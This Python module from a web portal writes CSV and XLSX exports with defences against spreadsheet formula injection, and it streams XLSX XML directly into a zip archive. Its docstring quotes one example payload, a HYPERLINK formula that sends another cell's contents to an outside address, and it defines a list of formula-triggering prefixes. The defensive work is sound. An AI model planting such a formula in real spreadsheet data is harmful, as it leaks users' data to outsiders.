"""Every CSV and XLSX file the portal writes, with no cell that a spreadsheet would run as a formula.

A spreadsheet reads a cell that starts with "=", "+", "-" or "@" (or their full-width forms, which
some spreadsheets take for the same characters), a tab or a carriage return as a formula: a name
set to `=HYPERLINK("http://…?"&A1,"click")` becomes a link that sends another cell's contents to an
outside address (CSV or formula injection). So:

- in CSV, such text is written with a single quote before it (OWASP's advice), which a spreadsheet
  shows as text; the portal's imports take the quote off again (FORMULA_PREFIXES says when);
- in XLSX, every text is a string cell (type "s"), never a formula, so it reads back exactly as
  entered and shows no quote. (A carriage return reads back as a line feed: XML keeps no other.)

XLSX is written here, the sheet's XML streamed into the archive a few hundred rows at a time
(`_SheetWriter`), so that memory stays flat whatever the number of rows; 50,000 rows take about a
second (openpyxl's write-only mode took 27 s, xlsxwriter's constant-memory mode 7.6 s: both spend
most of it in their per-cell calls). The workbook is the smallest Excel and LibreOffice open: one
sheet, and the styles of the three number formats openpyxl gave dates and times (yyyy-mm-dd
h:mm:ss, yyyy-mm-dd, h:mm:ss), so they read back as dates. Every text is an inline string cell.

Numbers stay numbers and dates dates (in CSV, dates as YYYY-MM-DD); None is an empty cell.

`write_csv`, `write_xlsx` and `write_table` write the network, attendance and bulk exports;
`CSVFormat` and `XLSXFormat` are django-import-export's formats for every admin (settings
IMPORT_EXPORT_FORMATS and EXPORT_FORMATS), so the admin's exports are written here too.
"""

import codecs
import csv
import datetime
import io
import zipfile
from collections.abc import Callable, Iterable
from decimal import Decimal
from xml.sax.saxutils import escape

from django.utils import timezone
from import_export.formats import base_formats
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.utils.datetime import to_excel

CSV, XLSX = "csv", "xlsx"
# The content type of each file the portal writes, for its download.
CONTENT_TYPES = {
    CSV: "text/csv; charset=utf-8",
    XLSX: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}

# A spreadsheet reads text that starts with one of these as a formula: = + - @ (and their
# full-width forms, U+FF1D U+FF0B U+FF0D U+FF20), a tab or a carriage return.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

NUMBERS = (int, float, Decimal)
PROGRESS_EVERY = 1000


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES)


def _local(value: datetime.datetime) -> datetime.datetime:
    """A date and time in the portal's time zone, without it (spreadsheets hold no time zone)."""
    return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value


def safe_cell(value):
    """A value as a CSV cell: numbers as they are, dates as YYYY-MM-DD, None as empty, True and
    False as Yes and No, and text a spreadsheet would take as a formula with a single quote before it."""
    if type(value) is str:  # nearly every cell
        return "'" + value if value.startswith(FORMULA_PREFIXES) else value
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, NUMBERS):
        return value
    if isinstance(value, datetime.datetime):
        return _local(value).isoformat(sep=" ")
    if isinstance(value, datetime.date | datetime.time):
        return value.isoformat()
    text = str(value)
    return "'" + text if is_formula_like(text) else text


# The number formats openpyxl wrote dates and times with, which the portal's XLSX files keep: the
# cell formats (xl/styles.xml) 1, 2 and 3.
DATETIME_FORMAT, DATE_FORMAT, TIME_FORMAT = "yyyy-mm-dd h:mm:ss", "yyyy-mm-dd", "h:mm:ss"
_DATETIME_STYLE, _DATE_STYLE, _TIME_STYLE = 1, 2, 3
_ROWS_PER_CHUNK = 500
_SHEET_NAME_FORBIDDEN = str.maketrans(dict.fromkeys("[]:*?/\\", "-"))
_SPACES = " \t\n\r"  # a text that starts or ends with one keeps it (xml:space="preserve")

_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE_RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
_CONTENT_TYPES_XML = (
    _XML + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/styles.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
    "</Types>"
)
_ROOT_RELS_XML = (
    _XML + f'<Relationships xmlns="{_PACKAGE_RELATIONSHIPS}">'
    f'<Relationship Id="rId1" Type="{_RELATIONSHIPS}/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WORKBOOK_RELS_XML = (
    _XML + f'<Relationships xmlns="{_PACKAGE_RELATIONSHIPS}">'
    f'<Relationship Id="rId1" Type="{_RELATIONSHIPS}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{_RELATIONSHIPS}/styles" Target="styles.xml"/>'
    "</Relationships>"
)
_WORKBOOK_XML = (
    _XML + f'<workbook xmlns="{_MAIN}" xmlns:r="{_RELATIONSHIPS}"><bookViews><workbookView/></bookViews>'
    '<sheets><sheet name="{name}" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_STYLES_XML = (
    _XML + f'<styleSheet xmlns="{_MAIN}">'
    '<numFmts count="3">'
    f'<numFmt numFmtId="164" formatCode="{DATETIME_FORMAT}"/>'
    f'<numFmt numFmtId="165" formatCode="{DATE_FORMAT}"/>'
    f'<numFmt numFmtId="166" formatCode="{TIME_FORMAT}"/>'
    "</numFmts>"
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/><family val="2"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill>'
    '<fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="4"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    '<xf numFmtId="165" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    '<xf numFmtId="166" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
    "</styleSheet>"
)
_SHEET_START = _XML + f'<worksheet xmlns="{_MAIN}" xmlns:r="{_RELATIONSHIPS}"><sheetData>'
_SHEET_END = "</sheetData></worksheet>"


def _xml_text(value: str) -> str:
    """Text as an XLSX cell holds it: without the control characters no XLSX file may hold, and
    escaped for XML (a carriage return reads back as a line feed, as XML reads every one)."""
    text = value if value.isprintable() else ILLEGAL_CHARACTERS_RE.sub("", value)
    if "&" in text:
        text = text.replace("&", "&amp;")
    if "<" in text:
        text = text.replace("<", "&lt;")
    if ">" in text:
        text = text.replace(">", "&gt;")
    return text


class _SheetWriter:
    """The rows of a sheet as SpreadsheetML: numbers and dates as themselves (dates and times as
    Excel's serial numbers, with their number format), every text an inline string cell (never a
    formula, whatever it starts with), None and "" as no cell, True and False as Yes and No."""

    def __init__(self):
        self.letters: list[str] = []

    def _letters(self, count: int) -> list[str]:
        from openpyxl.utils import get_column_letter

        while len(self.letters) < count:
            self.letters.append(get_column_letter(len(self.letters) + 1))
        return self.letters

    def row(self, number: int, values) -> str:
        values = list(values)
        letters = self.letters if len(self.letters) >= len(values) else self._letters(len(values))
        cells = [f'<row r="{number}">']
        append = cells.append
        for position, value in enumerate(values):
            kind = type(value)
            if kind is not str:  # nearly every cell is text
                if value is None:
                    continue
                if kind is bool:
                    value = "Yes" if value else "No"
                elif kind is int or kind is float or isinstance(value, Decimal | int | float):
                    append(f'<c r="{letters[position]}{number}"><v>{value}</v></c>')
                    continue
                elif isinstance(value, datetime.datetime | datetime.date | datetime.time):
                    if isinstance(value, datetime.datetime):
                        value, style = _local(value), _DATETIME_STYLE
                    elif isinstance(value, datetime.date):
                        style = _DATE_STYLE
                    else:
                        style = _TIME_STYLE
                    append(f'<c r="{letters[position]}{number}" s="{style}"><v>{to_excel(value)}</v></c>')
                    continue
                else:
                    value = str(value)
            text = _xml_text(value) if value else ""
            if not text:  # an empty text is no cell, as None is
                continue
            space = ' xml:space="preserve"' if text[0] in _SPACES or text[-1] in _SPACES else ""
            append(f'<c r="{letters[position]}{number}" t="inlineStr"><is><t{space}>{text}</t></is></c>')
        append("</row>")
        return "".join(cells)


def write_csv(headers: list, rows: Iterable, progress: Callable[[int], None] | None = None) -> bytes:
    """UTF-8 with a byte-order mark (which Excel needs to read UTF-8), every cell made safe."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(value) for value in headers])
    for count, row in enumerate(rows, start=1):
        writer.writerow([safe_cell(value) for value in row])
        if progress is not None and count % PROGRESS_EVERY == 0:
            progress(count)
    return codecs.BOM_UTF8 + out.getvalue().encode("utf-8")


def write_xlsx(headers: list, rows: Iterable, title: str, progress: Callable[[int], None] | None = None) -> bytes:
    """One sheet, named `title` (cut to the 31 characters a sheet name may have), its XML streamed
    into the archive a few hundred rows at a time; every text a string cell."""
    name = (title[:31] or "Sheet1").translate(_SHEET_NAME_FORBIDDEN)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES_XML)
        archive.writestr("_rels/.rels", _ROOT_RELS_XML)
        archive.writestr("xl/workbook.xml", _WORKBOOK_XML.replace("{name}", escape(name, {'"': "&quot;"})))
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS_XML)
        archive.writestr("xl/styles.xml", _STYLES_XML)
        sheet = _SheetWriter()
        with archive.open("xl/worksheets/sheet1.xml", "w") as stream:
            chunk = [_SHEET_START, sheet.row(1, headers)]
            for count, row in enumerate(rows, start=1):
                chunk.append(sheet.row(count + 1, row))
                if count % _ROWS_PER_CHUNK == 0:
                    stream.write("".join(chunk).encode("utf-8"))
                    chunk = []
                if progress is not None and count % PROGRESS_EVERY == 0:
                    progress(count)
            chunk.append(_SHEET_END)
            stream.write("".join(chunk).encode("utf-8"))
    return out.getvalue()


def write_table(
    file_format: str, headers: list, rows: Iterable, title: str, progress: Callable[[int], None] | None = None
) -> bytes:
    """The rows as CSV or XLSX (`file_format` "csv" or "xlsx")."""
    if file_format == CSV:
        return write_csv(headers, rows, progress)
    if file_format == XLSX:
        return write_xlsx(headers, rows, title, progress)
    raise ValueError(f"Unknown export format: {file_format}")


# django-import-export


class CSVFormat(base_formats.CSV):
    """The admin's CSV export, written by `write_csv` (bytes, UTF-8 with a byte-order mark, like
    every CSV file the portal writes); reading a CSV upload is import-export's own."""

    def export_data(self, dataset, **kwargs):
        return write_csv(dataset.headers or [], dataset)


class XLSXFormat(base_formats.XLSX):
    """The admin's XLSX export, written by `write_xlsx`; reading an XLSX upload is import-export's own."""

    def export_data(self, dataset, **kwargs):
        return write_xlsx(dataset.headers or [], dataset, title=dataset.title or "Export")


# import-export hands numbers and dates to the formats in this list as they are (to the others as
# text): XLSXFormat writes them as numbers and dates, as import-export's own XLSX format does.
if XLSXFormat not in base_formats.BINARY_FORMATS:
    base_formats.BINARY_FORMATS.append(XLSXFormat)

FORMATS = [CSVFormat, XLSXFormat]
